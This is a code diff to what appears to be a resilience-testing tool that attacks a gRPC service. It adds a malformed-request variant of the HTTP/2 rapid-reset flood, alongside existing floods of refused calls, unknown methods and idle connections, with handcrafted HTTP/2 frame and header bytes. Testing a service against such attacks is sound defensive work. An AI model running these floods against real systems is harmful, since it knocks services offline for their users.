@@ -5,6 +5,7 @@
     refused-calls     appends with a token that is nobody's
     unknown-methods   calls of methods that are not there
     reset-streams     calls that are opened and reset at once (HTTP/2 rapid reset)
+    reset-malformed   the same of calls that gRPC refuses by itself: they lack a header
     idle-connections  thousands of connections that say nothing behind their handshake
 
 It prints `started` once it is at work. What the service closes is opened again.
@@ -31,6 +32,8 @@ IDLE_CONNECTIONS = 4_000
 STREAMS_OF_A_CONNECTION = 2_000
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
 _CANCELLED = b"\0\0\0\x08"
+_AUTHORITY_AND_TYPE = b"\x41\x01x\x5f\x10application/grpc"
+_TRAILERS = b"\x40\x02te\x08trailers"
 _HEADERS, _RESET, _END_OF_HEADERS = 1, 3, 4
 Attack = Callable[[str, Path], Awaitable[None]]
 
@@ -59,14 +62,22 @@ async def _call(address: str, ca: Path, path: str, metadata: tuple[tuple[str, st
 
 
 async def reset_streams(address: str, ca: Path) -> None:
+    await _reset_again_and_again(address, ca, _TRAILERS)
+
+
+async def reset_malformed(address: str, ca: Path) -> None:
+    await _reset_again_and_again(address, ca, b"")
+
+
+async def _reset_again_and_again(address: str, ca: Path, more_headers: bytes) -> None:
+    path = METHODS["Append"].path.encode()
+    block = b"\x83\x87\x44" + bytes([len(path)]) + path + _AUTHORITY_AND_TYPE + more_headers
     while True:
         with contextlib.suppress(OSError):
-            await asyncio.to_thread(_reset, address, ca)
+            await asyncio.to_thread(_reset, address, ca, block)
 
 
-def _reset(address: str, ca: Path) -> None:
-    path = METHODS["Append"].path.encode()
-    block = b"\x83\x87\x44" + bytes([len(path)]) + path + b"\x41\x01x\x5f\x10application/grpc"
+def _reset(address: str, ca: Path, block: bytes) -> None:
     with _connected(address, ca) as connection:
         connection.sendall(_PREFACE)
         for number in range(STREAMS_OF_A_CONNECTION):
@@ -97,7 +108,7 @@ def _connected(address: str, ca: Path) -> ssl.SSLSocket:
 
 ATTACKS: dict[str, Attack] = {
     attack.__name__.replace("_", "-"): attack
-    for attack in (refused_calls, unknown_methods, reset_streams, idle_connections)
+    for attack in (refused_calls, unknown_methods, reset_streams, reset_malformed, idle_connections)
 }
 
 
